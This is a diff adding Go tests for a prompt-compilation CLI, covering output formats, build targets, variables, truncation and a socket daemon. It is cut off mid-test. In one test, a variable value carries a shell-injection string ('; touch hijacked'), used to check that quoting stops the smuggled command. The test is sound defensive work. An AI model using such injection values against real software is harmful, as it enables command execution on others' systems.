@@ -1,14 +1,35 @@
 package main
 
 import (
+	"archive/tar"
+	"bufio"
 	"bytes"
+	"compress/gzip"
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
 	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"runtime"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
+	"unicode/utf8"
+
+	"github.com/klauspost/compress/zstd"
+	"golang.org/x/crypto/blake2b"
 )
 
 func TestMain_Help(t *testing.T) {
@@ -1040,3 +1061,5841 @@ func TestResolvePathEdgeCases(t *testing.T) {
 		})
 	}
 }
+
+func TestResolveFormat(t *testing.T) {
+	tests := []struct {
+		name       string
+		format     string
+		outputFile string
+		expected   string
+	}{
+		{"stdout default", "", "", "text"},
+		{"txt extension", "", "context.txt", "text"},
+		{"md extension", "", "context.md", "markdown"},
+		{"markdown extension", "", "out/context.markdown", "markdown"},
+		{"json extension", "", "context.JSON", "json"},
+		{"html extension", "", "report.html", "html"},
+		{"explicit overrides extension", "text", "context.md", "text"},
+		{"explicit without output", "json", "", "json"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := resolveFormat(tt.format, tt.outputFile)
+			if result != tt.expected {
+				t.Errorf("resolveFormat(%q, %q) = %q, want %q", tt.format, tt.outputFile, result, tt.expected)
+			}
+		})
+	}
+}
+
+func TestOutputFormatByExtension(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "main.go"), []byte("package main\n"), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+	err = os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: \"Nested text\""), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "main.go"
+  - text: "Some instructions"
+  - prompt: "nested.yml"`
+
+	err = os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	mdFile := filepath.Join(tmpDir, "context.md")
+	if err := processPromptFile(promptFile, mdFile, 128000, "xml"); err != nil {
+		t.Fatalf("processPromptFile failed: %v", err)
+	}
+
+	md, err := os.ReadFile(mdFile)
+	if err != nil {
+		t.Fatalf("Failed to read markdown output: %v", err)
+	}
+	mdStr := string(md)
+	for _, expected := range []string{"## main.go", "```go\npackage main\n```", "Some instructions", "### text"} {
+		if !strings.Contains(mdStr, expected) {
+			t.Errorf("Markdown output should contain %q, got:\n%s", expected, mdStr)
+		}
+	}
+	if strings.Contains(mdStr, "<!-- pcp-source:") {
+		t.Error("Markdown output should not contain xml delimiters")
+	}
+
+	jsonFile := filepath.Join(tmpDir, "context.json")
+	if err := processPromptFile(promptFile, jsonFile, 128000, "xml"); err != nil {
+		t.Fatalf("processPromptFile failed: %v", err)
+	}
+
+	data, err := os.ReadFile(jsonFile)
+	if err != nil {
+		t.Fatalf("Failed to read JSON output: %v", err)
+	}
+
+	var out jsonOutput
+	if err := json.Unmarshal(data, &out); err != nil {
+		t.Fatalf("JSON output should be valid JSON: %v", err)
+	}
+	if len(out.Sections) != 3 {
+		t.Fatalf("Expected 3 sections, got %d", len(out.Sections))
+	}
+	if out.Sections[0].Type != "file" || out.Sections[0].Content != "package main\n" {
+		t.Errorf("Unexpected first section: %+v", out.Sections[0])
+	}
+	if len(out.Sections[2].Sections) != 1 || out.Sections[2].Sections[0].Content != "Nested text\n" {
+		t.Errorf("Nested prompt section should carry its children: %+v", out.Sections[2])
+	}
+	if out.WordCount != 6 {
+		t.Errorf("Expected word count 6, got %d", out.WordCount)
+	}
+
+	err = runCompile(Options{PromptFile: promptFile, OutputFile: mdFile, MaxWords: 128000, DelimiterStyle: "xml", Format: "text"})
+	if err != nil {
+		t.Fatalf("runCompile failed: %v", err)
+	}
+	md, _ = os.ReadFile(mdFile)
+	if !strings.Contains(string(md), "<!-- pcp-source: main.go -->") {
+		t.Errorf("Explicit -format text should override the .md extension, got:\n%s", md)
+	}
+}
+
+func TestMarkdownFence(t *testing.T) {
+	tests := []struct {
+		content  string
+		expected string
+	}{
+		{"plain", "```"},
+		{"inline `code`", "```"},
+		{"```go\nfmt.Println()\n```", "````"},
+	}
+
+	for _, tt := range tests {
+		if result := markdownFence(tt.content); result != tt.expected {
+			t.Errorf("markdownFence(%q) = %q, want %q", tt.content, result, tt.expected)
+		}
+	}
+}
+
+func TestMarkdownTableOfContents(t *testing.T) {
+	content := CompiledContent{Sections: []ContentSection{
+		{Source: "src/main.go", Content: "package main\n", Type: FileOp},
+		{Source: "nested.yml", Type: PromptOp, Children: []ContentSection{
+			{Source: "text", Content: "Nested\n", Type: TextOp},
+		}},
+		{Source: "text", Content: "Closing\n", Type: TextOp},
+	}}
+
+	md := compileMarkdown(content)
+	toc := "## Contents\n\n- [src/main.go](#srcmaingo)\n- [nested.yml](#nestedyml)\n  - [text](#text)\n- [text](#text-1)\n"
+	if !strings.HasPrefix(md, toc) {
+		t.Errorf("Markdown should start with a table of contents, got:\n%s", md)
+	}
+
+	single := compileMarkdown(CompiledContent{Sections: content.Sections[:1]})
+	if strings.Contains(single, "## Contents") {
+		t.Errorf("A single section should not get a table of contents, got:\n%s", single)
+	}
+}
+
+func TestHTMLReport(t *testing.T) {
+	content := CompiledContent{Sections: []ContentSection{
+		{Source: "main.go", Content: "// entry\nfunc main() { println(\"<hi>\", 42) }\n", Type: FileOp},
+		{Source: "nested.yml", Type: PromptOp, Children: []ContentSection{
+			{Source: "make test", Content: "FAIL a & b\n", Type: CommandOp, ExitCode: 1},
+		}},
+	}}
+
+	report, err := renderOutput(content, "html", "xml", defaultSectionSeparator)
+	if err != nil {
+		t.Fatalf("renderOutput failed: %v", err)
+	}
+	for _, expected := range []string{
+		"<!DOCTYPE html>",
+		"<summary>main.go<span class=\"size\">file 8 words, 45 bytes</span></summary>",
+		`<span class="com">// entry</span>`,
+		`<span class="kw">func</span> main()`,
+		`<span class="str">&#34;&lt;hi&gt;&#34;</span>`,
+		`<span class="num">42</span>`,
+		"<summary>nested.yml<span class=\"size\">prompt 4 words, 11 bytes</span></summary>\n<details open>",
+		`<span class="exit">(exit status 1)</span>`,
+		"<pre><code>FAIL a &amp; b\n</code></pre>",
+	} {
+		if !strings.Contains(report, expected) {
+			t.Errorf("HTML report should contain %q, got:\n%s", expected, report)
+		}
+	}
+	if strings.Contains(report, "<hi>") {
+		t.Error("Section content must be escaped")
+	}
+}
+
+func TestBuildTargets(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "big.txt"), []byte(strings.Repeat("filler ", 50)), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `outputs:
+  short:
+    output: "short.txt"
+    max_words: 20
+  full:
+    output: "full.txt"
+prompt:
+  - text: "Shared instructions"
+  - file: "big.txt"
+    targets: [full]
+  - text: "Short summary only"
+    targets: [short]`
+
+	err = os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	if err := runBuild([]string{"-f", promptFile}); err != nil {
+		t.Fatalf("runBuild failed: %v", err)
+	}
+
+	short, err := os.ReadFile(filepath.Join(tmpDir, "short.txt"))
+	if err != nil {
+		t.Fatalf("Failed to read short output: %v", err)
+	}
+	if !strings.Contains(string(short), "Shared instructions") || !strings.Contains(string(short), "Short summary only") {
+		t.Errorf("Short target missing expected content:\n%s", short)
+	}
+	if strings.Contains(string(short), "filler") {
+		t.Error("Short target should not include operations restricted to full")
+	}
+
+	full, err := os.ReadFile(filepath.Join(tmpDir, "full.txt"))
+	if err != nil {
+		t.Fatalf("Failed to read full output: %v", err)
+	}
+	if !strings.Contains(string(full), "filler") || strings.Contains(string(full), "Short summary only") {
+		t.Errorf("Full target has unexpected content:\n%s", full)
+	}
+
+	// A single named target honours -o and the target's own budget
+	outputFile := filepath.Join(tmpDir, "override.txt")
+	if err := runBuild([]string{"-f", promptFile, "-o", outputFile, "full"}); err != nil {
+		t.Fatalf("runBuild for named target failed: %v", err)
+	}
+	if _, err := os.Stat(outputFile); err != nil {
+		t.Errorf("Expected -o to override the target output path: %v", err)
+	}
+
+	err = runBuild([]string{"-f", promptFile, "missing"})
+	var targetErr ErrUnknownTarget
+	if !errors.As(err, &targetErr) {
+		t.Errorf("Expected ErrUnknownTarget, got %T: %v", err, err)
+	}
+}
+
+func TestBuildTargetBudget(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `outputs:
+  tiny:
+    max_words: 3
+prompt:
+  - text: "one two three four five"`
+
+	err := os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	err = runBuild([]string{"-f", promptFile, "tiny"})
+	if err == nil || !strings.Contains(err.Error(), "exceeds maximum word limit (3 words)") {
+		t.Errorf("Expected target budget to apply, got: %v", err)
+	}
+
+	err = runBuild([]string{"-f", promptFile})
+	if err == nil || !strings.Contains(err.Error(), "has no output path") {
+		t.Errorf("Expected error for building all targets without output paths, got: %v", err)
+	}
+}
+
+func TestExpandVars(t *testing.T) {
+	vars := map[string]string{"lang": "go", "level": "senior"}
+	tests := []struct {
+		input    string
+		expected string
+	}{
+		{"no variables", "no variables"},
+		{"style/${lang}.md", "style/go.md"},
+		{"${lang}-${level}", "go-senior"},
+		{"echo ${HOME}", "echo ${HOME}"},
+		{"price: $lang", "price: $lang"},
+	}
+
+	for _, tt := range tests {
+		if result := expandVars(tt.input, vars); result != tt.expected {
+			t.Errorf("expandVars(%q) = %q, want %q", tt.input, result, tt.expected)
+		}
+	}
+}
+
+func TestExpandShellVars(t *testing.T) {
+	vars := map[string]string{"lang": "go", "q": "it's broken", "flags": "-l -a"}
+	tests := []struct {
+		input    string
+		expected string
+	}{
+		{"ls src/${lang}", "ls src/go"},
+		{"grep ${q} log.txt", `grep 'it'\''s broken' log.txt`},
+		{"ls ${flags:raw}", "ls -l -a"},
+		{"echo ${HOME}", "echo ${HOME}"},
+		{"echo ${missing:raw}", "echo ${missing:raw}"},
+	}
+
+	for _, tt := range tests {
+		if result := expandShellVars(tt.input, vars); result != tt.expected {
+			t.Errorf("expandShellVars(%q) = %q, want %q", tt.input, result, tt.expected)
+		}
+	}
+
+	if result := expandVars("${q:raw}", vars); result != "it's broken" {
+		t.Errorf("expandVars should accept :raw outside commands, got %q", result)
+	}
+}
+
+func TestShellQuotedVariables(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "echo ${q}"`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	opts := Options{
+		PromptFile:     promptFile,
+		MaxWords:       128000,
+		DelimiterStyle: "xml",
+		WorkDir:        tmpDir,
+		Vars:           map[string]string{"q": "it's broken; touch hijacked"},
+	}
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "it's broken; touch hijacked\n" {
+		t.Errorf("Quoted variable should reach the command intact, got %q", compiled.Sections[0].Content)
+	}
+	if _, err := os.Stat(filepath.Join(tmpDir, "hijacked")); err == nil {
+		t.Error("Variable value must not be able to run extra commands")
+	}
+}
+
+func TestVariablesInOperations(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "go.md"), []byte("Go style guide"), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `vars:
+  lang: py
+  audience: reviewers
+prompt:
+  - file: "${lang}.md"
+  - text: "Written for ${audience}"
+  - command: "echo ${lang}"`
+
+	err = os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	outputFile := filepath.Join(tmpDir, "output.txt")
+	err = runCompile(Options{
+		PromptFile:     promptFile,
+		OutputFile:     outputFile,
+		MaxWords:       128000,
+		DelimiterStyle: "xml",
+		Vars:           map[string]string{"lang": "go"},
+	})
+	if err != nil {
+		t.Fatalf("runCompile failed: %v", err)
+	}
+
+	output, err := os.ReadFile(outputFile)
+	if err != nil {
+		t.Fatalf("Failed to read output file: %v", err)
+	}
+	outputStr := string(output)
+	for _, expected := range []string{"<!-- pcp-source: go.md -->", "Go style guide", "Written for reviewers", "<!-- pcp-source: echo go -->"} {
+		if !strings.Contains(outputStr, expected) {
+			t.Errorf("Output should contain %q, got:\n%s", expected, outputStr)
+		}
+	}
+}
+
+func TestRunMatrix(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - text: "Review this ${lang} code as a ${level} engineer"`
+
+	err := os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	outputTemplate := filepath.Join(tmpDir, "out-${lang}-${level}.txt")
+	err = runMatrix([]string{"-f", promptFile, "-set", "lang=go,py", "-set", "level=junior,senior", "-o", outputTemplate})
+	if err != nil {
+		t.Fatalf("runMatrix failed: %v", err)
+	}
+
+	for _, lang := range []string{"go", "py"} {
+		for _, level := range []string{"junior", "senior"} {
+			output, err := os.ReadFile(filepath.Join(tmpDir, "out-"+lang+"-"+level+".txt"))
+			if err != nil {
+				t.Fatalf("Missing output for %s/%s: %v", lang, level, err)
+			}
+			expected := "Review this " + lang + " code as a " + level + " engineer"
+			if !strings.Contains(string(output), expected) {
+				t.Errorf("Output for %s/%s should contain %q, got:\n%s", lang, level, expected, output)
+			}
+		}
+	}
+
+	err = runMatrix([]string{"-f", promptFile, "-set", "lang=go,py", "-o", filepath.Join(tmpDir, "same.txt")})
+	if err == nil || !strings.Contains(err.Error(), "does not distinguish every combination") {
+		t.Errorf("Expected error for a template without placeholders, got: %v", err)
+	}
+
+	err = runMatrix([]string{"-f", promptFile})
+	if err == nil {
+		t.Error("Expected error when no -set flags are given")
+	}
+}
+
+func TestMatrixCombinations(t *testing.T) {
+	combos := matrixCombinations([]matrixDimension{
+		{Name: "a", Values: []string{"1", "2"}},
+		{Name: "b", Values: []string{"x", "y", "z"}},
+	})
+	if len(combos) != 6 {
+		t.Fatalf("Expected 6 combinations, got %d", len(combos))
+	}
+	if combos[0]["a"] != "1" || combos[0]["b"] != "x" || combos[5]["a"] != "2" || combos[5]["b"] != "z" {
+		t.Errorf("Combinations are not in deterministic order: %v", combos)
+	}
+}
+
+func TestRefOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	counterFile := filepath.Join(tmpDir, "runs.txt")
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "echo run >> runs.txt; echo Introduction words here"
+    label: intro
+  - text: "Middle"
+  - ref: "#intro"`
+
+	err := os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	originalDir, _ := os.Getwd()
+	defer os.Chdir(originalDir)
+	os.Chdir(tmpDir)
+
+	outputFile := filepath.Join(tmpDir, "output.txt")
+	// The command output is 3 words and the text 1; a second charge would exceed 5
+	if err := processPromptFile(promptFile, outputFile, 5, "xml"); err != nil {
+		t.Fatalf("processPromptFile failed: %v", err)
+	}
+
+	output, err := os.ReadFile(outputFile)
+	if err != nil {
+		t.Fatalf("Failed to read output file: %v", err)
+	}
+	outputStr := string(output)
+	if strings.Count(outputStr, "-->\nIntroduction words here") != 2 {
+		t.Errorf("Ref should repeat the labeled content, got:\n%s", outputStr)
+	}
+	if !strings.Contains(outputStr, "<!-- pcp-source: #intro -->") {
+		t.Errorf("Ref section should be labeled by its reference, got:\n%s", outputStr)
+	}
+
+	runs, _ := os.ReadFile(counterFile)
+	if strings.Count(string(runs), "run") != 1 {
+		t.Errorf("Labeled command should run exactly once, ran %d times", strings.Count(string(runs), "run"))
+	}
+
+	charged := `prompt:
+  - text: "one two three"
+    label: intro
+  - ref: "intro"
+    charge: true`
+	if err := os.WriteFile(promptFile, []byte(charged), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	err = processPromptFile(promptFile, outputFile, 5, "xml")
+	if err == nil || !strings.Contains(err.Error(), "exceeds maximum word limit") {
+		t.Errorf("Expected charged ref to count against the budget, got: %v", err)
+	}
+}
+
+func TestRefOperationErrors(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	tests := []struct {
+		name    string
+		content string
+		target  interface{}
+	}{
+		{"unknown label", "prompt:\n  - ref: \"#missing\"", &ErrUnknownLabel{}},
+		{"forward reference", "prompt:\n  - ref: \"#later\"\n  - text: \"x\"\n    label: later", &ErrUnknownLabel{}},
+		{"duplicate label", "prompt:\n  - text: \"a\"\n    label: dup\n  - text: \"b\"\n    label: dup", &ErrDuplicateLabel{}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			promptFile := filepath.Join(tmpDir, "prompt.yml")
+			if err := os.WriteFile(promptFile, []byte(tt.content), 0644); err != nil {
+				t.Fatalf("Failed to create prompt file: %v", err)
+			}
+			err := processPromptFile(promptFile, filepath.Join(tmpDir, "out.txt"), 128000, "xml")
+			if err == nil || !errors.As(err, tt.target) {
+				t.Errorf("Expected %T, got %T: %v", tt.target, err, err)
+			}
+		})
+	}
+}
+
+func TestDisabledOperations(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: \"Nested kept\"\n  - command: \"echo nested skipped\"\n    disabled: true"), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - text: "Kept text"
+  - file: "does-not-exist.txt"
+    disabled: true
+  - prompt: "missing.yml"
+    disabled: true
+  - prompt: "nested.yml"`
+
+	err = os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("Disabled operations should not be processed: %v", err)
+	}
+
+	if compiled.Stats.Sections != 2 {
+		t.Errorf("Expected 2 sections, got %d", compiled.Stats.Sections)
+	}
+	if len(compiled.Stats.Skipped) != 3 {
+		t.Fatalf("Expected 3 skipped operations, got %+v", compiled.Stats.Skipped)
+	}
+	if compiled.Stats.Skipped[0].Index != 1 || compiled.Stats.Skipped[0].Description != "file: does-not-exist.txt" {
+		t.Errorf("Unexpected skipped operation: %+v", compiled.Stats.Skipped[0])
+	}
+	if !strings.HasSuffix(compiled.Stats.Skipped[2].File, "nested.yml") {
+		t.Errorf("Nested skipped operation should name its prompt file: %+v", compiled.Stats.Skipped[2])
+	}
+
+	var stats bytes.Buffer
+	printStats(&stats, compiled.Stats)
+	for _, expected := range []string{"sections: 2", "skipped operations: 3", "(command: echo nested skipped)"} {
+		if !strings.Contains(stats.String(), expected) {
+			t.Errorf("Stats output should contain %q, got:\n%s", expected, stats.String())
+		}
+	}
+}
+
+func TestTruncateWords(t *testing.T) {
+	tests := []struct {
+		text     string
+		n        int
+		expected string
+	}{
+		{"one two three", 2, "one two"},
+		{"one\n\ttwo   three four", 3, "one\n\ttwo   three"},
+		{"one two", 5, "one two"},
+		{"one two", 0, ""},
+		{"  leading space", 1, "  leading"},
+	}
+
+	for _, tt := range tests {
+		if result := truncateWords(tt.text, tt.n); result != tt.expected {
+			t.Errorf("truncateWords(%q, %d) = %q, want %q", tt.text, tt.n, result, tt.expected)
+		}
+	}
+}
+
+func TestOverflowPolicies(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: \""+strings.Repeat("nested ", 20)+"\""), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - text: "` + strings.Repeat("alpha ", 40) + `"
+  - text: "` + strings.Repeat("beta ", 40) + `"
+    weight: 3
+  - text: "short section"
+  - prompt: "nested.yml"`
+
+	err = os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	_, err = compilePromptFile(Options{PromptFile: promptFile, MaxWords: 50, DelimiterStyle: "xml", Overflow: "error"})
+	if err == nil {
+		t.Error("Default overflow policy should fail over budget")
+	}
+
+	tail, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 50, DelimiterStyle: "xml", Overflow: "truncate"})
+	if err != nil {
+		t.Fatalf("truncate policy failed: %v", err)
+	}
+	if len(tail.Sections) != 2 {
+		t.Fatalf("Tail truncation should drop later sections, got %d sections", len(tail.Sections))
+	}
+	// Its five-word truncation marker is part of its 10 words
+	if countWords(strings.ReplaceAll(tail.Sections[1].Content, "[... truncated 35 words ...]", "")) != 5 {
+		t.Errorf("Second section should keep 5 words, got %q", tail.Sections[1].Content)
+	}
+	if tail.Stats.Words != 50 || tail.Stats.TruncatedWords != 57 {
+		t.Errorf("Unexpected stats after tail truncation: %+v", tail.Stats)
+	}
+
+	prop, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 50, DelimiterStyle: "xml", Overflow: "truncate-proportional"})
+	if err != nil {
+		t.Fatalf("truncate-proportional policy failed: %v", err)
+	}
+	if len(prop.Sections) != 4 {
+		t.Fatalf("Proportional truncation should keep every section, got %d", len(prop.Sections))
+	}
+	// "short section" keeps its 2 words; 48 remain for weights 1, 3 and 1
+	if sectionWords(prop.Sections[2]) != 2 {
+		t.Errorf("Small section should be kept whole, got %q", prop.Sections[2].Content)
+	}
+	// Their 9 and 28 word shares include a truncation marker each
+	if count := strings.Count(prop.Sections[0].Content, "alpha"); count != 4 {
+		t.Errorf("Unweighted section should keep 4 words, kept %d", count)
+	}
+	if count := strings.Count(prop.Sections[1].Content, "beta"); count != 23 {
+		t.Errorf("Weighted section should keep 23 words, kept %d", count)
+	}
+	if !strings.Contains(prop.Sections[3].Content, "nested.yml->text") {
+		t.Errorf("Nested section should be re-rendered after truncation, got %q", prop.Sections[3].Content)
+	}
+	if prop.Stats.Words > 50 {
+		t.Errorf("Proportional truncation exceeded budget: %+v", prop.Stats)
+	}
+
+	// Truncation markers count against the budget
+	for _, name := range []string{"a.txt", "b.txt"} {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(strings.Repeat(name+" ", 100)), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - file: a.txt\n  - file: b.txt\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	for _, policy := range []string{"truncate", "truncate-proportional"} {
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 40, DelimiterStyle: "xml", Overflow: policy})
+		if err != nil {
+			t.Fatalf("%s policy failed: %v", policy, err)
+		}
+		if compiled.Stats.Words > 40 || contentWords(compiled.Sections) > 40 {
+			t.Errorf("%s: expected at most 40 words, got %d", policy, compiled.Stats.Words)
+		}
+	}
+}
+
+func TestOperationCaps(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "huge.log"), []byte(strings.Repeat("logline ", 500)), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create log file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "huge.log"
+    max_words: 10
+  - text: "` + strings.Repeat("abcdefg ", 20) + `"
+    max_tokens: 10
+  - text: "Source code stays intact"`
+
+	err = os.WriteFile(promptFile, []byte(promptContent), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	// The log alone would blow a 50 word budget; its cap keeps the compile within it
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 50, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("Capped operations should fit the global budget: %v", err)
+	}
+
+	// The cap includes the five-word truncation marker
+	if content := compiled.Sections[0].Content; countWords(content) != 10 || strings.Count(content, "logline") != 5 {
+		t.Errorf("max_words should leave 10 words, got %q", content)
+	}
+	if !strings.Contains(compiled.Sections[0].Content, "[... truncated 495 words ...]") {
+		t.Errorf("Capped section should carry a truncation marker, got %q", compiled.Sections[0].Content)
+	}
+	// The marker, at 28 characters, leaves room for one 8-character word
+	// within 10 estimated tokens
+	if content := compiled.Sections[1].Content; content != "abcdefg\n[... truncated 19 words ...]\n" || estimateTokens(content, defaultCharsPerToken) > 10 {
+		t.Errorf("max_tokens should keep 1 word, got %q", content)
+	}
+	if compiled.Sections[2].Content != "Source code stays intact\n" {
+		t.Errorf("Uncapped section should be untouched, got %q", compiled.Sections[2].Content)
+	}
+}
+
+func TestNestedPromptWordsCountedOnce(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	err := os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: \"one two three four\""), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	err = os.WriteFile(promptFile, []byte("prompt:\n  - prompt: \"nested.yml\""), 0644)
+	if err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 4, DelimiterStyle: "xml"}); err != nil {
+		t.Errorf("Nested content should only be charged once: %v", err)
+	}
+}
+
+func TestDaemon(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	contextFile := filepath.Join(tmpDir, "context.txt")
+	if err := os.WriteFile(contextFile, []byte("First version"), 0644); err != nil {
+		t.Fatalf("Failed to create context file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "context.txt"
+  - command: "pwd"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	socketPath := filepath.Join(tmpDir, "pcp.sock")
+	listener, err := net.Listen("unix", socketPath)
+	if err != nil {
+		t.Skipf("unix sockets unavailable: %v", err)
+	}
+	cache := newSourceCache()
+	done := make(chan error)
+	go func() { done <- serveDaemon(listener, cache) }()
+
+	conn, err := net.Dial("unix", socketPath)
+	if err != nil {
+		t.Fatalf("Failed to connect to daemon: %v", err)
+	}
+	defer conn.Close()
+	reader := bufio.NewReader(conn)
+
+	request := func(req string) daemonResponse {
+		t.Helper()
+		if _, err := conn.Write([]byte(req + "\n")); err != nil {
+			t.Fatalf("Failed to send request: %v", err)
+		}
+		line, err := reader.ReadBytes('\n')
+		if err != nil {
+			t.Fatalf("Failed to read response: %v", err)
+		}
+		var resp daemonResponse
+		if err := json.Unmarshal(line, &resp); err != nil {
+			t.Fatalf("Invalid response %q: %v", line, err)
+		}
+		return resp
+	}
+
+	resp := request(`{"prompt_file": "prompt.yml", "dir": "` + tmpDir + `"}`)
+	if resp.Error != "" {
+		t.Fatalf("Compile request failed: %s", resp.Error)
+	}
+	if !strings.Contains(resp.Output, "First version") || !strings.Contains(resp.Output, tmpDir) {
+		t.Errorf("Unexpected daemon output:\n%s", resp.Output)
+	}
+	if len(cache.prompts) != 1 || len(cache.files) != 1 {
+		t.Errorf("Daemon should cache the prompt and file, got %d prompts and %d files", len(cache.prompts), len(cache.files))
+	}
+
+	// Edits invalidate the cached content
+	if err := os.WriteFile(contextFile, []byte("Second, longer version"), 0644); err != nil {
+		t.Fatalf("Failed to update context file: %v", err)
+	}
+	resp = request(`{"prompt_file": "` + promptFile + `", "format": "json"}`)
+	if resp.Error != "" || !strings.Contains(resp.Output, `"content": "Second, longer version\n"`) {
+		t.Errorf("Daemon should pick up edited files, got %+v", resp)
+	}
+
+	resp = request(`{"prompt_file": "missing.yml"}`)
+	if !strings.Contains(resp.Error, "file not found") {
+		t.Errorf("Expected file not found error, got %+v", resp)
+	}
+	resp = request(`not json`)
+	if !strings.Contains(resp.Error, "invalid request") {
+		t.Errorf("Expected invalid request error, got %+v", resp)
+	}
+
+	listener.Close()
+	if err := <-done; err != nil {
+		t.Errorf("serveDaemon should stop cleanly when the listener closes: %v", err)
+	}
+}
+
+func TestCompileDependencies(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	if err := os.WriteFile(filepath.Join(tmpDir, "a.txt"), []byte("A"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - file: \"a.txt\"\n  - text: \"x\""), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
